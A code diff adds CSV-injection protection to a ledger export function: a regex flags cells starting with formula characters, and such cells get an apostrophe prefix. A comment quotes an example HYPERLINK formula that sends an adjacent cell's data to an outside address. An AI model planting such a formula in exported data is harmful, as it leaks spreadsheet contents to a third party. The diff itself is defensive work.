@@ -101,9 +101,24 @@ export function exportLedger(format: ExportFormat, what: ExportWhat, ratings: Ra
   return lines.map((line) => `${line}\n`).join('');
 }
 
-/** RFC 4180: quote a cell holding a comma, quote or line break, doubling its quotes. */
+/**
+ * The first characters that make a spreadsheet read a cell as a formula: `=`, `+`, `-`, `@`, and the tab,
+ * carriage return and NUL that some strip before looking (OWASP's advice on CSV injection).
+ */
+const FORMULA_START = /^[=+\-@\t\r\0]/;
+
+/**
+ * One CSV cell: RFC 4180 quoting of a cell holding a comma, quote or line break (its quotes doubled), and
+ * a text cell that a spreadsheet would read as a formula written with a `'` before it.
+ *
+ * @remarks
+ * Model ids, reasons and member names are what providers, checks and teammates wrote: a model id of
+ * `=HYPERLINK("https://…?"&A1,"docs")` opened as a formula that sent the next cell to that address. A
+ * spreadsheet shows a leading `'` as marking text and hides it; another reader sees it, the lesser harm.
+ * Numbers are Rung's own and written as they are: a negative rating stays a number.
+ */
 export function csvCell(value: Cell): string {
   if (value === null || value === undefined) return '';
-  const text = String(value);
+  const text = typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : String(value);
   return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
 }
